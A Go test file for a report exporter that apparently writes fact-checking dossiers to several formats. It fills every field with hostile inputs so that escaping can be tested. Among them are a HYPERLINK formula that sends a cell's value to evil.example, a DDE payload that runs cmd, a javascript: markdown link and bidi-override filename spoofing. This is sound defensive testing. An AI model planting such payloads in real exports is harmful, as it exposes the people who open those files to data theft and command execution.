package report

import (
	"strings"
	"testing"

	"galley/model"
)

// hostiles are what a field may hold, by name.
var hostiles = map[string]string{
	"markup":    hostile,
	"formula":   `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	"command":   "-2+3+cmd|' /C calc'!A0",
	"second":    "harmless;=HYPERLINK(\"http://evil.example\")",
	"newline":   "harmless\n=1+1",
	"full":      "＝1+1",
	"at":        "@SUM(1)",
	"tab":       "\t=1+1",
	"control":   "a\x00b\x07c\x1b[31md\x7fe",
	"turned":    "abc\u202egnp.exe\u202c \u2067x",
	"bytes":     "a\xffb\xc3",
	"markdown":  "[a](javascript:alert(1)) ![x](http://evil.example/x.png) **b** `c` | d\n# heading\n- item\n1. item\n[^1]: note\n---\n> q <http://evil.example>",
	"separator": "a,\"b\";c\td\r\ne\u2028f",
	"noncharac": "a\ufffeb\uffffc",
}

// hostileContent has the text in every field that a person fills.
func hostileContent(t testing.TB, text string) Content {
	c := content(t, "Before the words. "+strings.ToValidUTF8(text, "\ufffd")+" after them.\n\nA claim stands here.", "A claim stands here")
	a := &c.Article
	a.Title, a.Byline, a.Publisher, a.Published, a.URL, a.Language = text, text, text, text, text, text
	d := dossier(c.Version, 1, c.Version.Blocks[0].Span())
	d.Claim = model.Claim{ID: "c1", Wording: text, Speaker: text, Said: text, Owner: text, Due: text, Status: model.Checked}
	rate(&d, "False", text)
	d.Verdicts[0].By, d.Verdicts[0].SignedBy, d.Verdicts[0].SignedAt = text, text, "2026-11-22T09:00:00.000Z"
	d.Evidence = []model.Exhibit{{
		Evidence: model.Evidence{ID: "e", SourceID: "s", Stance: model.Refutes, Quote: text, Locator: text, Note: text},
		Source:   model.Source{ID: "s", Title: text, Publisher: text, Author: text, URL: text, Published: text, Accessed: text, ArchiveURL: text},
	}}
	c.Dossiers = append(c.Dossiers, d)
	c.Editor, c.Generator = text, text
	return c
}

func TestAMegabyteOfReasonsIsWrittenInEveryFormat(t *testing.T) {
	c := every(t)
	reasons := strings.TrimSpace(strings.Repeat("A reason, and *another* [one] <b>.\n=1+1;=2\n\n", 22_000))
	c.Dossiers[0].Verdicts[1].Reasoning = reasons
	for _, f := range Formats() {
		if out := written(t, f, c); f != XLSX && f != DOCX && len(out) < len(reasons) { // a cell holds no more (TestATextTooLongForACell…), a DOCX is compressed
			t.Errorf("%s: %d bytes of %d", f, len(out), len(reasons))
		}
	}
	all, err := ReadAnnotations("own", []byte(written(t, Annotations, c)))
	if err != nil || all[0].Reasoning != reasons {
		t.Errorf("annotations do not bring it back: %v", err)
	}
	b, err := ReadJSON("own", []byte(written(t, JSON, c)))
	if err != nil || b.Verdicts[1].Reasoning != reasons {
		t.Errorf("JSON does not bring it back: %v", err)
	}
}
